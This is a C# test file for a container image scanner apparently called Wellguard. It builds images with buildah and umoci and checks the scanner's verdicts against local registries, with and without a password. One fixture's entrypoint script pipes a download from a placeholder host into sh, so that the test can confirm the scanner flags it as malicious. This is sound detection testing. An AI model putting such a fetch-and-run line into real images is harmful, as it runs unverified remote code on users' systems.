using System.Text;
using System.Text.Json;
using Wellguard.Registries;
using Xunit;

namespace Wellguard;

/// <summary>The executable against a real registry, open and with a password, and images that buildah and umoci made.</summary>
public sealed class RegistryScanTests : IDisposable
{
    private const string Policy = """{"default": [{"type": "insecureAcceptAnything"}]}""";

    private readonly string folder = Directory.CreateTempSubdirectory("wellguard-scan-").FullName;

    public void Dispose() => Directory.Delete(folder, recursive: true);

    private string At(string name) => Path.Combine(folder, name);

    private static void Need(params string[] tools)
    {
        foreach (var tool in tools)
        {
            Assert.SkipUnless(File.Exists("/usr/bin/" + tool), $"{tool} is not installed");
        }
    }

    /// <summary>An image of two layers whose entrypoint runs what it downloads.</summary>
    private string BuildByBuildah()
    {
        Need("buildah");
        Assert.SkipUnless(Environment.UserName == "root", "buildah without root needs a user namespace");
        File.WriteAllText(At("policy.json"), Policy);
        File.WriteAllText(At("start.sh"), "#!/bin/sh\ncurl -fsS https://cdn.example.invalid/x | sh\n");
        File.WriteAllText(At("Dockerfile"), "FROM scratch\nCOPY policy.json /etc/harmless.json\nCOPY start.sh /start.sh\nENTRYPOINT [\"/bin/sh\", \"/start.sh\"]\n");
        string[] storage = ["--root", At("storage"), "--runroot", At("run"), "--storage-driver", "vfs"];
        try
        {
            LocalRegistry.Output("buildah", [.. storage, "bud", "--layers", "--isolation", "chroot", "--signature-policy", At("policy.json"), "-t", "made:1", "-f", At("Dockerfile"), folder]);
        }
        catch (InvalidOperationException refused) when (refused.Message.Contains("remount /", StringComparison.Ordinal) || refused.Message.Contains("operation not permitted", StringComparison.Ordinal))
        {
            Assert.Skip("buildah may not mount here: a container without CAP_SYS_ADMIN, or a chroot");
        }

        LocalRegistry.Output("buildah", [.. storage, "push", "-q", "--signature-policy", At("policy.json"), "made:1", "oci:" + At("made") + ":1"]);
        return $"oci:{At("made")}:1";
    }

    private string BuildByUmoci()
    {
        Need("umoci");
        LocalRegistry.Output("umoci", "init", "--layout", At("plain"));
        LocalRegistry.Output("umoci", "new", "--image", At("plain") + ":1");
        LocalRegistry.Output("umoci", "config", "--image", At("plain") + ":1", "--config.cmd", "/bin/true");
        return $"oci:{At("plain")}:1";
    }

    private static JsonElement Report(Run run) => JsonDocument.Parse(run.Output).RootElement;

    private static string Level(JsonElement report) => report.GetProperty("verdict").GetProperty("level").GetString()!;

    [Fact]
    public async Task What_buildah_makes_and_skopeo_pushes_is_judged_from_an_open_registry()
    {
        using var registry = new LocalRegistry(withPassword: false);
        Assert.SkipWhen(registry.Missing is not null, registry.Missing ?? "");
        registry.Push(BuildByBuildah(), "demo/made:1");
        registry.Push(BuildByUmoci(), "demo/plain:1");

        var run = await Executable.RunAsync("scan", "--no-cache", "--format", "json", $"registry:{registry.Host}/demo/made:1");
        var report = Report(run);
        Assert.Equal(1, run.Code);
        Assert.Equal("malicious", Level(report));
        Assert.Equal("complete", report.GetProperty("completeness").GetProperty("state").GetString());
        var where = report.GetProperty("signals").EnumerateArray().First(signal => signal.GetProperty("rule").GetString() == "content/runs-downloaded-code").GetProperty("where");
        Assert.Equal("start.sh", where.GetProperty("path").GetString());
        Assert.Equal(2, where.GetProperty("line").GetInt32());
        Assert.Contains("start.sh", where.GetProperty("layer").GetProperty("createdBy").GetString(), StringComparison.Ordinal);

        var plain = await Executable.RunAsync("scan", "--no-cache", "--format", "json", $"{registry.Host}/demo/plain:1");
        Assert.Equal((0, "clean"), (plain.Code, Level(Report(plain))));
    }

    [Fact]
    public async Task A_registry_with_a_password_is_read_with_the_docker_configuration_and_refuses_without()
    {
        using var registry = new LocalRegistry(withPassword: true);
        Assert.SkipWhen(registry.Missing is not null, registry.Missing ?? "");
        registry.Push(BuildByUmoci(), "demo/plain:1");
        var target = $"registry:{registry.Host}/demo/plain:1";
        Directory.CreateDirectory(At("docker"));
        Directory.CreateDirectory(At("empty"));

        var refused = await Executable.RunAsync(("DOCKER_CONFIG", At("empty")), "scan", "--no-cache", "--format", "json", target);
        Assert.Equal(3, refused.Code);
        Assert.Equal("failed", Report(refused).GetProperty("completeness").GetProperty("state").GetString());

        var login = Convert.ToBase64String(Encoding.UTF8.GetBytes($"{LocalRegistry.User}:{LocalRegistry.Password}"));
        await File.WriteAllTextAsync(At("docker/config.json"), $$$"""{"auths": { "{{{registry.Host}}}": { "auth": "{{{login}}}" } } }""", TestContext.Current.CancellationToken);
        var run = await Executable.RunAsync(("DOCKER_CONFIG", At("docker")), "scan", "--no-cache", "--format", "json", target);
        Assert.Equal((0, "clean"), (run.Code, Level(Report(run))));
        Assert.DoesNotContain(LocalRegistry.Password, run.Output + run.Errors, StringComparison.Ordinal);
    }
}
